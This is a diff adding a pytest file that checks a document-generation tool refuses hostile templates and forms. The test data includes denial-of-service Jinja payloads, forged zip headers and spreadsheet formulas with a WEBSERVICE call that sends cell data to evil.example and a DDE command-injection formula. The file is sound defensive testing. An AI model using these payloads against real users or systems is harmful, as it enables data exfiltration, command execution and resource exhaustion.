@@ -1,0 +1,261 @@
+"""Hostile templates and forms: hard limits on rendering, one Error line for every template mistake, inert
+spreadsheets, sizes checked while inflating, nothing unstorable or oversized reaches the project file."""
+from __future__ import annotations
+
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from docx import Document
+from openpyxl import load_workbook
+
+from kitgen.build import build
+from kitgen.cli import cli
+from kitgen.harvest import harvest
+from kitgen.ooxml import limits
+from kitgen.project import load_project
+
+from .conftest import ROOT, SAMPLE_FR
+from .test_rounds import add_report_row
+
+EXHAUSTING = [
+    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
+    "{{ 2 ** 64 ** 64 }}",
+    "{{ lipsum(10**7) }}",
+    "{{ 'x'.ljust(10**10) }}",
+    "{{ '{0:>1000000000}'.format(1) }}",
+    "{{ '%01000000000d' % 1 }}",
+    "{{ ('x' * 100000).replace('x', 'x' * 100000) }}",
+    "{{ ('x' * 1000)|replace('x', 'y' * 100000) }}",
+    "{{ 'a'|center(10**10) }}",
+    "{{ ('ab' * 50000)|wordwrap(10**9) }}",
+    "{% for i in range(100000) %}{% for j in range(100000) %}xxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}",
+    "{% set s = namespace(x='x') %}{% for i in range(60) %}{% set s.x = s.x ~ s.x %}{% endfor %}{{ s.x|length }}",
+    "{{ 'x' * 200000 }}",
+]
+MISTAKES = [
+    ("{% include 'other.docx' %}", "single files"),
+    ("{% import 'macros.docx' as m %}", "single files"),
+    ("{% extends 'base.docx' %}", "single files"),
+    ("{% from 'macros.docx' import m %}", "single files"),
+    ("{{ 1/0 }}", "ZeroDivisionError"),
+    ("{{ 'a' + 1 }}", "TypeError"),
+    ("{{ 'x'.encode('rot13') }}", "not available in templates"),
+    ("{{ 'a b'|wordwrap(0) }}", "positive width"),
+    ("{{ '%d' % 'x' }}", "TypeError"),
+    ("{{ range(1, 2, 0) }}", "ValueError"),
+    ("{{ " + "9" * 5000 + " }}", "ValueError"),
+    ("{{ audit.titel }}", "unknown variable 'titel'"),
+    ("{% for x in %}", "syntax error"),
+]
+
+
+def word_template(folder: Path, text: str) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    doc = Document()
+    doc.add_paragraph(text)
+    doc.save(str(folder / "audit-report.docx"))
+    return folder
+
+
+@pytest.fixture
+def fast_limits(monkeypatch):
+    monkeypatch.setattr(limits, "SECONDS", 2.0)
+
+
+@pytest.mark.parametrize("payload", EXHAUSTING)
+def test_exhausting_templates_stop_fast_with_one_line(tmp_path, fast_limits, payload):
+    folder = word_template(tmp_path / "tpl", payload)
+    start = time.perf_counter()
+    result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "audit-report", "--audit", "AUD-2026-01",
+                                      "--templates", str(folder), "-o", str(tmp_path / "out")])
+    elapsed = time.perf_counter() - start
+    assert result.exit_code == 1, result.output
+    lines = result.stderr.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("Error: audit-report.docx: "), result.stderr
+    assert elapsed < 6, elapsed
+    assert not list((tmp_path / "out").glob("*.docx")) if (tmp_path / "out").exists() else True
+
+
+@pytest.mark.parametrize("payload,message", MISTAKES)
+def test_every_template_mistake_is_one_error_line(tmp_path, payload, message):
+    folder = word_template(tmp_path / "tpl", payload)
+    result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "audit-report", "--audit", "AUD-2026-01",
+                                      "--templates", str(folder), "-o", str(tmp_path / "out")])
+    assert result.exit_code == 1
+    lines = result.stderr.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("Error: audit-report.docx: ") and message in lines[0], result.stderr
+    check = CliRunner().invoke(cli, ["templates", "check", str(folder)])
+    assert check.exit_code == 1 and "audit-report.docx" in check.stderr and "Traceback" not in check.stderr
+
+
+def test_the_machine_is_unharmed(tmp_path):
+    """The worst payloads, under a 2 GB address-space limit for the whole command: refused, nothing else."""
+    folder = word_template(tmp_path / "tpl", EXHAUSTING[3] + EXHAUSTING[10])
+    code = f"""
+import resource, sys
+resource.setrlimit(resource.RLIMIT_AS, (2_000_000_000, 2_000_000_000))
+from click.testing import CliRunner
+from kitgen.cli import cli
+r = CliRunner().invoke(cli, ["build", {str(SAMPLE_FR)!r}, "audit-report", "--templates", {str(folder)!r},
+                             "-o", {str(tmp_path / 'out')!r}])
+print(r.exit_code, repr(r.stderr))
+"""
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=60)
+    assert out.stdout.startswith("1 ") and "Error: audit-report.docx" in out.stdout, out.stdout + out.stderr
+
+
+def formula_template(folder: Path, formula: str) -> Path:
+    from kitgen.templates import shipped_dir
+
+    folder.mkdir(parents=True, exist_ok=True)
+    wb = load_workbook(shipped_dir() / "fr" / "action-plan.xlsx")
+    wb["Synthèse"]["H40"] = formula
+    wb.save(folder / "action-plan.xlsx")
+    return folder
+
+
+@pytest.mark.parametrize("formula,why", [
+    ('=WEBSERVICE("http://evil.example/?"&A1)', "WEBSERVICE"),
+    ("=cmd|' /C calc'!A0", "DDE"),
+    ('=HYPERLINK("http://evil.example","click")', "HYPERLINK"),
+    ("=[1]Sheet1!A1", "another workbook"),
+])
+def test_spreadsheet_templates_hold_only_pure_formulas(tmp_path, formula, why):
+    folder = formula_template(tmp_path / "tpl", formula)
+    result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "action-plan", "--templates", str(folder),
+                                      "-o", str(tmp_path / "out")])
+    assert result.exit_code == 1 and "action-plan.xlsx: Synthèse!H40: formula refused" in result.stderr, result.stderr
+    assert why in result.stderr
+    check = CliRunner().invoke(cli, ["templates", "check", str(folder)])
+    assert check.exit_code == 1 and "Synthèse!H40" in check.stderr
+
+
+def test_pure_formulas_are_fine(tmp_path):
+    folder = formula_template(tmp_path / "tpl", "=SUM(B3:B9)+IF(C3>0,1,0)")
+    build(load_project(SAMPLE_FR), ["action-plan"], out_dir=tmp_path / "out", templates=folder)
+
+
+# -- hostile forms ----------------------------------------------------------------------------------------------
+
+
+def rezip(src: Path, dst: Path, **replace: bytes) -> Path:
+    with zipfile.ZipFile(src) as zf:
+        parts = {n: zf.read(n) for n in zf.namelist()}
+    parts.update({k.replace("__", "/").replace("_xml", ".xml"): v for k, v in replace.items()})
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
+        for n, d in parts.items():
+            zf.writestr(n, d)
+    return dst
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory):
+    import shutil
+
+    base = tmp_path_factory.mktemp("hostile-forms")
+    shutil.copytree(SAMPLE_FR.parent, base / "fr")
+    build(load_project(base / "fr" / "projet.yaml"), ["audit-report"], out_dir=base / "out")
+    return base / "fr" / "projet.yaml", base / "out" / "audit-report-AUD-2026-01.docx"
+
+
+def harvest_one_line(project: Path, form: Path, budget: float = 5) -> str:
+    before = project.read_bytes()
+    start = time.perf_counter()
+    result = CliRunner().invoke(cli, ["harvest", str(project), str(form)])
+    assert time.perf_counter() - start < budget
+    assert result.exit_code == 1, result.output
+    lines = result.stderr.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
+    assert project.read_bytes() == before
+    return lines[0]
+
+
+def test_lying_zip_headers(built, tmp_path):
+    project, report = built
+    big = tmp_path / "big.docx"
+    with zipfile.ZipFile(report) as src, zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name in src.namelist():
+            if name != "word/document.xml":
+                dst.writestr(name, src.read(name))
+        with dst.open("word/document.xml", "w") as part:
+            for _ in range(256):
+                part.write(b" " * (1024 * 1024))   # 256 MB of spaces
+    data = bytearray(big.read_bytes())
+    patched = 0
+    for signature, header, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
+        pos = -1
+        while (pos := data.find(signature, pos + 1)) != -1:   # declare 30 KB, in the local header and the directory
+            if data[pos + header:pos + header + 17] == b"word/document.xml":
+                data[pos + size_at:pos + size_at + 4] = (30 * 1024).to_bytes(4, "little")
+                patched += 1
+    assert patched == 2
+    big.write_bytes(bytes(data))
+    line = harvest_one_line(project, big)
+    assert "big.docx" in line and "damaged" in line
+
+
+def test_a_cell_spanning_two_billion_columns(built, tmp_path):
+    project, report = built
+    with zipfile.ZipFile(report) as zf:
+        xml = zf.read("word/document.xml").decode()
+    xml = xml.replace("<w:tcPr>", '<w:tcPr><w:gridSpan w:val="2000000000"/>', 1)
+    form = rezip(report, tmp_path / "span.docx", word__document_xml=xml.encode())
+    start = time.perf_counter()
+    harvest(load_project(project), [form], dry_run=True)
+    assert time.perf_counter() - start < 5
+
+
+def test_a_hundred_thousand_added_rows(built, tmp_path):
+    project, report = built
+    with zipfile.ZipFile(report) as zf:
+        xml = zf.read("word/document.xml").decode()
+    row = ('<w:tr><w:tc><w:p/></w:tc><w:tc><w:p><w:r><w:t>6.6</w:t></w:r></w:p></w:tc><w:tc><w:p/></w:tc><w:tc><w:p>'
+           '<w:r><w:t>Point sensible</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
+           '<w:tc><w:p/></w:tc></w:tr>')
+    xml = xml.replace("</w:tbl>", row * 100_000 + "</w:tbl>", 1)
+    form = rezip(report, tmp_path / "rows.docx", word__document_xml=xml.encode())
+    assert "more than a kitgen form holds" in harvest_one_line(project, form)
+
+
+def test_huge_statements_never_reach_the_project(built, tmp_path):
+    project, report = built
+    form = add_report_row(report, tmp_path / "huge.docx", "x" * 7_000_000)
+    line = harvest_one_line(project, form, budget=10)
+    assert "more than the 32767 a cell holds" in line and "huge.docx" in line
+
+
+def test_a_harvest_that_would_outgrow_the_load_limit_is_refused(built, tmp_path, monkeypatch):
+    from kitgen.project import load as load_module
+    from kitgen.project import save as save_module
+
+    project, report = built
+    doc = Document(str(report))
+    t = next(t for t in doc.tables if t.rows[0].cells[-1].text == "Preuves objectives")
+    for i in range(40):
+        cells = t.add_row().cells
+        for cell, text in zip(cells, ["", "6.6", "", "Point sensible", f"Constat {i} " + "x" * 30000, ""]):
+            cell.text = text
+    doc.save(str(tmp_path / "many.docx"))
+    monkeypatch.setattr(save_module, "MAX_PROJECT_BYTES", 1_000_000)
+    monkeypatch.setattr(load_module, "MAX_PROJECT_BYTES", 1_000_000)
+    before = project.read_bytes()
+    result = CliRunner().invoke(cli, ["harvest", str(project), str(tmp_path / "many.docx")])
+    assert result.exit_code == 1 and "would grow to" in result.stderr, result.stderr
+    assert project.read_bytes() == before
+
+
+def test_values_are_never_read_as_terminal_markup(built, tmp_path):
+    import shutil
+
+    project, report = built
+    work = tmp_path / "p"
+    shutil.copytree(project.parent, work)
+    form = add_report_row(report, tmp_path / "markup.docx", "[/] [bold red]not markup[/bold red] [link=x]")
+    result = CliRunner().invoke(cli, ["harvest", str(work / "projet.yaml"), str(form)])
+    assert result.exit_code == 0, result.output
+    assert "[/] [bold red]not markup" in result.output
